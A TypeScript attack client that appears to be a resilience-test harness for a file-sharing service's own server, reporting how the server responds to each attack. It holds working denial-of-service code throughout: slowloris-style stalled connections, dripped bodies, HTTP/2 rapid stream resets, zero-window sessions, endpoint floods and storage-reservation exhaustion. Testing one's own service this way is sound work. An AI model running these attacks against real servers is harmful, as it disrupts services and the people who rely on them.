// One client address that attacks a server. Runs as its own process: node attacker.ts <attack> <url> <address>.
// Prints what the server did so far, as a line of JSON every 200 ms, until its stdin is closed.
import { once } from 'node:events';
import { connect as connectHttp2, constants } from 'node:http2';
import { Agent, request as requestHttps } from 'node:https';
import { connect as connectTcp } from 'node:net';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import { text } from 'node:stream/consumers';
import type { IncomingMessage } from 'node:http';

const [attack = '', address = '', localAddress = ''] = process.argv.slice(2);
const url = new URL(address);
const host = url.hostname;
const port = Number(url.port);
const MB = 1024 * 1024;
/** More than any limit, as in the reviews that found the weaknesses. */
const CONNECTIONS = 500;
/** One part, and more than the buffers of a connection hold. */
const FILE = 20 * MB;
/** As in the review that found it: more than may be open. */
const [SESSIONS, STREAMS] = [100, 32];
const LARGEST_FILE = Math.floor(10.9 * 1024 ** 3);

const counts: Record<string, number> = {};
const count = (outcome: string) => void (counts[outcome] = (counts[outcome] ?? 0) + 1);
const stopped = new AbortController();
const print = (then?: () => void) => process.stdout.write(`${JSON.stringify(counts)}\n`, then);
setInterval(print, 200);
process.stdin.resume().once('end', () => {
  stopped.abort();
  print(() => process.exit());
});

const agent = new Agent({ keepAlive: true, localAddress, maxSockets: 50 });
const session = { cookie: '', 'x-csrf-token': '', 'content-type': 'application/json', accept: 'application/json' };

async function call(method: string, path: string, body?: object): Promise<{ status: number; body: never }> {
  // The server may cut the connection after the head of its response. Then reading the body fails.
  const sent = requestHttps(new URL(path, url), { method, agent, headers: session }).on('error', () => undefined);
  sent.end(body && JSON.stringify(body));
  const [response] = (await once(sent, 'response')) as [IncomingMessage];
  session.cookie = response.headers['set-cookie']?.[0]?.split(';')[0] ?? session.cookie;
  return { status: response.statusCode ?? 0, body: JSON.parse((await text(response)) || '{}') as never };
}

const INIT = {
  fileName: 'a',
  contentType: '',
  totalParts: 1,
  downloadLimit: 100,
  retentionPeriod: 1,
  isEncrypted: true,
};
const init = (fileSize: number) => call('POST', '/api/upload/init', { ...INIT, fileSize });

/** Opens an upload of its own and returns it with signed URLs of its first parts. */
async function signedParts(fileSize: number, partCount: number) {
  const { body: upload } = await init(fileSize);
  const { uploadId, fileKey, chunkSize } = upload as { uploadId: string; fileKey: string; chunkSize: number };
  const urls: URL[] = [];
  for (let partNumber = 1; partNumber <= partCount; partNumber += 1) {
    const { body } = await call('POST', '/api/upload/presigned-url', { uploadId, fileKey, partNumber });
    urls.push(new URL((body as { presignedUrl: string }).presignedUrl));
  }
  return { uploadId, fileKey, chunkSize, urls };
}

/** Uploads a file of its own and returns a signed URL of it. */
async function ownFile(bytes: number): Promise<URL> {
  const { urls, chunkSize, ...upload } = await signedParts(bytes, 1);
  const sent = requestHttps(urls[0] ?? '', { method: 'PUT', agent });
  sent.end(Buffer.alloc(bytes + 28));
  const [response] = (await once(sent, 'response')) as [IncomingMessage];
  response.resume();
  const parts = [{ PartNumber: 1, ETag: response.headers.etag }];
  const metadata = {
    chunkSize,
    salt: Buffer.alloc(16).toString('base64'),
    keyCheck: Buffer.alloc(28).toString('base64'),
  };
  const { body } = await call('POST', '/api/upload/complete', { ...upload, metadata, parts });
  const granted = await call('GET', `/api/download/${(body as { downloadId: string }).downloadId}`);
  return new URL((granted.body as { presignedUrl: string }).presignedUrl);
}

const zeros = (bytes: number) => Buffer.alloc(bytes).toString('base64');

/** Uploads one byte with the longest details that a file may have, and returns the id of the file. */
async function longDetails(): Promise<string> {
  const { body: upload } = await init(1);

  const { uploadId, fileKey, chunkSize, presignedUrl } = upload as Record<string, string>;
  const sent = requestHttps(presignedUrl ?? '', { method: 'PUT', agent });
  sent.end(Buffer.alloc(29));
  const [response] = (await once(sent, 'response')) as [IncomingMessage];
  response.resume();
  const metadata = {
    format: 2,
    chunkSize,
    salt: zeros(16),
    keyCheck: zeros(32),
    pageSalt: zeros(16),
    accessCheck: zeros(32),
    details: zeros(6144),
  };
  const parts = [{ PartNumber: 1, ETag: response.headers.etag }];
  const { body } = await call('POST', '/api/upload/complete', { uploadId, fileKey, metadata, parts });
  return (body as { downloadId: string }).downloadId;
}

/** Makes a page as large as a page may be, and returns its address. */
async function largestPage(): Promise<string> {
  const fileIDs: string[] = [];
  while (fileIDs.length < 240) fileIDs.push(...(await Promise.all(Array.from({ length: 16 }, longDetails))));
  const { body } = await call('POST', '/api/batch/upload', { fileIDs, list: zeros(36_000) });
  return `/api/download/page/${(body as { pageID: string }).pageID}`;
}

/** Repeats an action on several lanes, without an end. */
function flood(lanes: number, act: () => Promise<unknown>): void {
  const run = async () => {
    while (!stopped.signal.aborted) await act().catch(() => count('failed'));
  };
  for (let lane = 0; lane < lanes; lane += 1) void run();
}

/** Opens a connection from the address of this attacker. */
const tcp = () => connectTcp({ host, port, localAddress }).on('error', () => undefined);

const STATUS = 'HTTP/1.1 200';

/** Opens a connection that sends these bytes, then one byte every second if `drips`, and reads no more than the status. */
function stall(head: string, drips: boolean): void {
  const socket: TLSSocket = connectTls({ socket: tcp(), host, ALPNProtocols: ['http/1.1'] });
  socket.on('error', () => undefined);
  let isConnected = false;
  socket.once('secureConnect', () => {
    isConnected = true;
    count('connected');
    socket.write(head);
    // Without a reader Node would not notice that the server closes the connection.
    const timer = setInterval(() => socket.write(drips ? 'x' : ''), 1000);
    socket.once('close', () => clearInterval(timer));
  });
  socket.once('close', () => count(isConnected ? 'lost' : 'refused'));
  // No more than the status: it says what the server makes of this connection.
  socket.once('readable', () => {
    const [, status] = /^HTTP\/1\.1 (\d{3})/u.exec(String(socket.read(STATUS.length) ?? '')) ?? [];
    if (status !== undefined) count(status);
  });
}

/** `heads` are used in turn. */
const stallAll = (heads: string[], drips: boolean) => {
  for (let made = 0; made < CONNECTIONS; made += 1) stall(heads[made % heads.length] ?? '', drips);
};

const requestLine = (method: string, target: URL | string) =>
  `${method} ${typeof target === 'string' ? target : target.pathname + target.search} HTTP/1.1\r\nhost: ${url.host}\r\n`;

/** Opens streams and resets them at once, and connects again whenever the server has ended the session. */
async function resetStreams(): Promise<void> {
  const client = connectHttp2(url, {
    createConnection: () => connectTls({ socket: tcp(), host, ALPNProtocols: ['h2'] }),
  });
  client.on('error', () => undefined);
  client.once('goaway', (code) => count(`goaway ${code}`));
  client.once('connect', () => count('connected'));
  const closed = new Promise((resolve) => client.once('close', resolve));
  while (!stopped.signal.aborted && !client.closed && !client.destroyed) {
    for (let made = 0; made < 100 && !client.closed; made += 1) {
      const stream = client.request({ ':path': '/api/download/page/AAAAAAAAAAAAAAAAAAAAAA' });
      stream.on('error', () => undefined);
      stream.close(constants.NGHTTP2_CANCEL);
      count('reset');
    }
    await new Promise((resolve) => setImmediate(resolve));
  }
  client.destroy();
  await closed;
}

/** Opens sessions full of requests, and reads no byte of a response. */
function unreadStreams(path: string): void {
  for (let made = 0; made < SESSIONS; made += 1) {
    const client = connectHttp2(url, {
      createConnection: () => connectTls({ socket: tcp(), host, ALPNProtocols: ['h2'] }),
      settings: { initialWindowSize: 0 },
    });
    client.on('error', () => undefined).once('close', () => count('lost'));
    client.once('connect', () => {
      count('connected');
      for (let opened = 0; opened < STREAMS; opened += 1) {
        const stream = client.request({ ':path': path }).on('error', () => undefined);
        stream.once('response', ({ ':status': status }) => count(String(status)));
        stream.once('close', () => count('cut'));
      }
    });
  }
}

const attacks: Record<string, () => Promise<void> | void> = {
  assets: () => unreadStreams('/social/en.png'),
  documents: () =>
    flood(50, async () => {
      const { status } = await call('GET', '/api/openapi.json');
      count(String(status));
    }),
  parts: async () => {
    const { urls } = await signedParts(1, 1);
    flood(20, async () => {
      const sent = requestHttps(urls[0] ?? '', { method: 'PUT', agent });
      sent.end(Buffer.alloc(29));
      const [response] = (await once(sent, 'response')) as [IncomingMessage];
      response.resume();
      count(String(response.statusCode));
    });
  },
  reservations: () =>
    flood(20, async () => {
      const { status } = await init(LARGEST_FILE);
      count(String(status));
    }),
  pages: () =>
    flood(50, async () => {
      const { status } = await call('GET', '/api/download/page/AAAAAAAAAAAAAAAAAAAAAA');
      count(String(status));
    }),
  largePages: async () => {
    const path = await largestPage();
    flood(64, async () => {
      const { status } = await call('GET', path);
      count(String(status));
    });
  },
  readers: async () => stallAll([`${requestLine('GET', await ownFile(FILE))}\r\n`], false),
  writers: async () => {
    // Each sends another part: a part that is sent again replaces its first attempt.
    const { urls, chunkSize } = await signedParts(200 * FILE, 140);
    const body = `content-length: ${chunkSize + 28}\r\n\r\n${'x'.repeat(MB - 1)}`;
    stallAll(
      urls.map((part) => requestLine('PUT', part) + body),
      true,
    );
  },
  bodies: () =>
    stallAll(
      [
        `${requestLine('POST', '/api/upload/init')}content-type: application/json\r\ncontent-length: 200000\r\n\r\n${' '.repeat(100_000)}`,
      ],
      true,
    ),
  resets: () => flood(2, resetStreams),
};

const token = await call('POST', '/api/csrf-token');
session['x-csrf-token'] = (token.body as { token: string }).token;
await attacks[attack]?.();
